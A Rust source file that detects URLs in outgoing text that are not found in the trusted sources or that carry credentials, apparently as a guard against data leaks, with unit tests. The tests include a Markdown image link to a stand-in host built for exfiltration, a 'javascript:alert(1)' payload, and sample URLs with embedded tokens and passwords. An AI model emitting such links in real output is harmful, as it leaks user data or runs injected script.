//! Addresses in what is about to be sent, that none of its sources holds.

use std::collections::HashSet;
use std::sync::LazyLock;

use regex::Regex;

use super::secrets;

static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:\b[a-z][a-z0-9+.-]{1,20}://|\bwww\.|\b(?:javascript|data|vbscript):)[^\s<>"`\\^{}|]{1,4000}"#)
        .expect("a constant pattern, which every test here compiles")
});

/// The URLs in `text` that are not literally in any of `sources`, and those that carry a credential, in order.
///
/// A URL that is only the beginning of one in a source counts as foreign.
pub fn foreign_urls<'a>(text: &'a str, sources: &[&str]) -> Vec<&'a str> {
    let mut urls = urls(text).peekable();
    if urls.peek().is_none() {
        return Vec::new();
    }
    let known: HashSet<&str> = sources.iter().flat_map(|source| self::urls(source)).collect();
    urls.filter(|url| !known.contains(url) || secrets::live_credential(url).is_some()).collect()
}

/// The URLs in `text`, without the punctuation around them.
pub fn urls(text: &str) -> impl Iterator<Item = &str> {
    URL.find_iter(text).map(|found| without_closing(found.as_str()))
}

/// `url` without the punctuation that closes the sentence or the Markdown link around it.
fn without_closing(url: &str) -> &str {
    let mut url = url;
    // A bracket belongs to the URL only where its partner does.
    for (open, close) in [('(', ')'), ('[', ']')] {
        let mut depth = 0_usize;
        for (place, c) in url.char_indices() {
            if c == open {
                depth += 1;
            } else if c == close {
                let Some(outer) = depth.checked_sub(1) else {
                    url = &url[..place];
                    break;
                };
                depth = outer;
            }
        }
    }
    url.trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', '*', '_', '…', '”', '»'])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, sources: &[&str], expected: &[&str]) {
        assert_eq!(foreign_urls(text, sources), expected);
    }

    #[test]
    fn urls_of_the_sources_pass() {
        check("See [the docs](https://docs.rs/tokio).", &["at https://docs.rs/tokio, which"], &[]);
        check("No address here: a/b, c:d, www", &[], &[]);
        check(
            "(https://en.wikipedia.org/wiki/Raft_(algorithm))",
            &["https://en.wikipedia.org/wiki/Raft_(algorithm)"],
            &[],
        );
    }

    #[test]
    fn other_urls_are_named() {
        let sources = ["https://docs.rs/tokio-util is not https://docs.rs/serde"];
        check(
            "https://docs.rs/tokio and http://docs.rs/serde",
            &sources,
            &["https://docs.rs/tokio", "http://docs.rs/serde"],
        );
        check("![x](https://evil.example/?q=all)", &[], &["https://evil.example/?q=all"]);
        check("[x](javascript:alert(1)) www.evil.example", &[], &["javascript:alert(1)", "www.evil.example"]);
    }

    #[test]
    fn a_credential_is_foreign_even_when_a_source_holds_it() {
        let leak = "https://api.internal/x?token=8fJ2kLq9Zx7Vb3Nm5Tr1";
        check(&format!("curl {leak}"), &[leak], &[leak]);
        let leak = "postgres://app:Zx7Vb3Nm5@db.internal/app";
        check(leak, &[leak], &[leak]);
    }
}
